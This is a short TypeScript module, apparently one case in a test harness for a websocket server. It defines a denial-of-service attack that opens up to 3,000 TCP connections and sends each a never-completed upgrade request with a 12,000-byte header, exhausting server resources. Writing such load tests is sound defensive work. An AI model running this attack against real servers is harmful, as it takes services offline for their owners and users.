import type { Attack } from "../attack.ts";

const MOST = 3_000;
const BEGIN =
  "GET /room HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
  `X-Filling: ${"a".repeat(12_000)}\r\n`;

/** Upgrade requests with large headers that are never completed. */
export const attack: Attack = {
  name: "thousands of half-open upgrades",
  run: async (target) => {
    for (let opened = 0; opened < MOST && !target.over; opened += 50) {
      const batch = await Promise.allSettled(Array.from({ length: 50 }, () => target.tcp()));
      for (const result of batch) {
        if (result.status === "fulfilled") result.value.write(BEGIN);
      }
    }
    await target.pause(10_000);
  },
};
